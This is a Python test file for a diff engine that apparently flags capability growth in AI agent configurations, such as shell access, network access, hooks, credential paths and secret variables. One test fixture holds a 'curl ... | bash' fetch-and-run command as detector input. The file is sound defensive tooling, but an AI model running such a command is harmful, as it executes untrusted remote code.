"""Tests for the behavioural diff engine."""

from __future__ import annotations

from typing import Callable

import pytest

from agentlint.core.diff import (
    DEFAULT_FAIL_ON,
    DEFAULT_WARN_ON,
    ChangeType,
    compare,
    detect_capability_changes,
    diff_status,
    new_findings,
)
from agentlint.core.ir import CapabilitySummary, Finding, ScanStatus, Severity

FindingFactory = Callable[..., Finding]


def _types(base: CapabilitySummary, target: CapabilitySummary) -> list[ChangeType]:
    return [c.type for c in detect_capability_changes(base, target)]


# ---------------------------------------------------------------------------
# Capability transitions
# ---------------------------------------------------------------------------


class TestCapabilityChanges:
    """Each detector fires on growth only."""

    def test_identical_summaries(self) -> None:
        assert detect_capability_changes(CapabilitySummary(), CapabilitySummary()) == []

    def test_shell_enabled(self) -> None:
        target = CapabilitySummary()
        target.shell_exec.enabled = True
        (change,) = detect_capability_changes(CapabilitySummary(), target)
        assert change.type == ChangeType.CAPABILITY_EXPANSION
        assert change.severity == Severity.HIGH
        assert change.message == "shell_exec.enabled: false -> true"
        assert change.details == {"field": "shell_exec.enabled", "from": False, "to": True}

    def test_shell_dynamic(self) -> None:
        target = CapabilitySummary()
        target.shell_exec.enabled = True
        target.shell_exec.dynamic_detected = True
        assert _types(CapabilitySummary(), target) == [
            ChangeType.CAPABILITY_EXPANSION,
            ChangeType.SHELL_DYNAMIC_INTRODUCED,
        ]

    def test_network_flags(self) -> None:
        target = CapabilitySummary()
        target.network.outbound = True
        target.network.inbound = True
        target.network.fetches_executable = True
        changes = detect_capability_changes(CapabilitySummary(), target)
        assert [c.type for c in changes] == [
            ChangeType.NETWORK_NEW_OUTBOUND,
            ChangeType.NETWORK_EXPANSION,
            ChangeType.CAPABILITY_EXPANSION,
        ]
        assert changes[1].severity == Severity.MEDIUM

    def test_contexts(self) -> None:
        target = CapabilitySummary()
        target.contexts.has_hooks = True
        target.contexts.has_ci_context = True
        changes = detect_capability_changes(CapabilitySummary(), target)
        assert [c.message for c in changes] == [
            "Hooks added to configuration",
            "CI context added to configuration",
        ]

    def test_sensitive_paths_only_new_members(self) -> None:
        base = CapabilitySummary()
        base.filesystem.touches_sensitive_paths = [".env"]
        target = CapabilitySummary()
        target.filesystem.touches_sensitive_paths = [".env", "~/.ssh/id_rsa"]
        (change,) = detect_capability_changes(base, target)
        assert change.type == ChangeType.SENSITIVE_PATH_NEWLY_TOUCHED
        assert change.message == "New sensitive paths touched: ~/.ssh/id_rsa"
        assert change.details == {"new_paths": ["~/.ssh/id_rsa"]}

    @pytest.mark.parametrize("pattern", ["**/*", "**", "*"])
    def test_write_scope_widening(self, pattern: str) -> None:
        base = CapabilitySummary()
        base.filesystem.write = ["src/**"]
        target = CapabilitySummary()
        target.filesystem.write = ["src/**", pattern]
        (change,) = detect_capability_changes(base, target)
        assert change.type == ChangeType.WRITE_SCOPE_WIDENING_TO_ALL
        assert change.details["target_writes"] == ["src/**", pattern]

    def test_write_scope_already_open(self) -> None:
        base = CapabilitySummary()
        base.filesystem.write = ["**"]
        target = CapabilitySummary()
        target.filesystem.write = ["**/*"]
        assert _types(base, target) == []

    def test_scoped_write_is_not_widening(self) -> None:
        target = CapabilitySummary()
        target.filesystem.write = ["docs/**"]
        assert _types(CapabilitySummary(), target) == []

    def test_secrets(self) -> None:
        base = CapabilitySummary()
        base.secrets.env_vars_referenced = ["HOME_TOKEN"]
        target = CapabilitySummary()
        target.secrets.env_vars_referenced = ["HOME_TOKEN", "AWS_SECRET_ACCESS_KEY"]
        target.secrets.propagation_detected = True
        messages = [c.message for c in detect_capability_changes(base, target)]
        assert messages == [
            "New secret variables referenced: AWS_SECRET_ACCESS_KEY",
            "Secret propagation detected",
        ]

    def test_shrinking_never_produces_changes(self) -> None:
        base = CapabilitySummary()
        base.shell_exec.enabled = True
        base.shell_exec.dynamic_detected = True
        base.network.outbound = True
        base.contexts.has_hooks = True
        base.filesystem.write = ["**/*"]
        base.secrets.env_vars_referenced = ["API_KEY"]
        assert detect_capability_changes(base, CapabilitySummary()) == []

    def test_change_ids_are_deterministic(self) -> None:
        target = CapabilitySummary()
        target.shell_exec.enabled = True
        first = detect_capability_changes(CapabilitySummary(), target)[0]
        second = detect_capability_changes(CapabilitySummary(), target)[0]
        assert first.change_id == second.change_id
        assert first.change_id.startswith("chg_")
        assert len(first.change_id) == len("chg_") + 12


# ---------------------------------------------------------------------------
# Finding matching
# ---------------------------------------------------------------------------


class TestFindingMatching:
    """New and resolved findings by stable fingerprint."""

    def test_new_findings(self, finding_factory: FindingFactory) -> None:
        kept = finding_factory(line=1)
        added = finding_factory(line=5)
        assert new_findings([kept], [kept, added]) == [added]

    def test_cosmetic_evidence_change_matches(self, finding_factory: FindingFactory) -> None:
        before = finding_factory(evidence="curl https://x.com/i.sh | bash")
        after = finding_factory(evidence="  CURL  https://x.com/i.sh   |  bash ")
        assert new_findings([before], [after]) == []

    def test_resolved_findings(self, finding_factory: FindingFactory) -> None:
        gone = finding_factory(rule_id="NET-002", line=3)
        result = compare(CapabilitySummary(), [gone], CapabilitySummary(), [])
        assert result.resolved_findings == [gone]
        assert result.new_findings == []


# ---------------------------------------------------------------------------
# Verdict
# ---------------------------------------------------------------------------


class TestVerdict:
    """Status precedence and summary headline values."""

    def test_no_changes_passes(self) -> None:
        result = compare(CapabilitySummary(), [], CapabilitySummary(), [])
        assert result.summary.status == ScanStatus.PASS
        assert result.summary.exit_code == 0
        assert result.summary.capability_expansion is False
        assert (result.base_ref, result.target_ref) == ("base", "target")

    def test_default_fail_on_capability_expansion(self) -> None:
        target = CapabilitySummary()
        target.shell_exec.enabled = True
        result = compare(CapabilitySummary(), [], target, [], base_ref="main", target_ref="pr")
        assert result.summary.status == ScanStatus.FAIL
        assert result.summary.exit_code == 1
        assert result.summary.capability_expansion is True
        assert result.base_ref == "main"

    def test_outbound_counts_as_expansion_but_does_not_fail_by_default(self) -> None:
        target = CapabilitySummary()
        target.network.outbound = True
        result = compare(CapabilitySummary(), [], target, [])
        assert result.summary.capability_expansion is True
        assert result.summary.status == ScanStatus.PASS

    def test_ci_context_does_not_set_expansion(self) -> None:
        target = CapabilitySummary()
        target.contexts.has_ci_context = True
        result = compare(CapabilitySummary(), [], target, [], warn_on=["context_change_to_ci"])
        assert result.summary.capability_expansion is False
        assert result.summary.status == ScanStatus.WARN
        assert result.summary.exit_code == 0

    def test_new_medium_finding_warns(self, finding_factory: FindingFactory) -> None:
        medium = finding_factory(rule_id="HOOK-002")
        assert medium.severity == Severity.MEDIUM
        result = compare(CapabilitySummary(), [], CapabilitySummary(), [medium])
        assert result.summary.status == ScanStatus.WARN

    def test_new_high_finding_counted_but_passes_by_default(
        self, finding_factory: FindingFactory
    ) -> None:
        result = compare(CapabilitySummary(), [], CapabilitySummary(), [finding_factory()])
        assert result.summary.new_high_findings == 1
        assert result.summary.status == ScanStatus.PASS

    def test_new_high_findings_in_fail_on(self, finding_factory: FindingFactory) -> None:
        result = compare(
            CapabilitySummary(),
            [],
            CapabilitySummary(),
            [finding_factory()],
            fail_on=["new_high_findings"],
        )
        assert result.summary.status == ScanStatus.FAIL
        assert result.summary.exit_code == 1

    def test_fail_beats_warn(self, finding_factory: FindingFactory) -> None:
        target = CapabilitySummary()
        target.contexts.has_hooks = True
        result = compare(
            CapabilitySummary(), [], target, [finding_factory(rule_id="HOOK-002")]
        )
        assert result.summary.status == ScanStatus.FAIL

    def test_empty_lists_always_pass(self, finding_factory: FindingFactory) -> None:
        target = CapabilitySummary()
        target.shell_exec.enabled = True
        changes = detect_capability_changes(CapabilitySummary(), target)
        assert diff_status(changes, [finding_factory()], [], []) == (ScanStatus.PASS, 0)

    def test_defaults(self) -> None:
        assert DEFAULT_FAIL_ON == (
            "capability_expansion",
            "context_change_to_hook",
            "write_scope_widening_to_all",
        )
        assert DEFAULT_WARN_ON == ("new_medium_findings",)
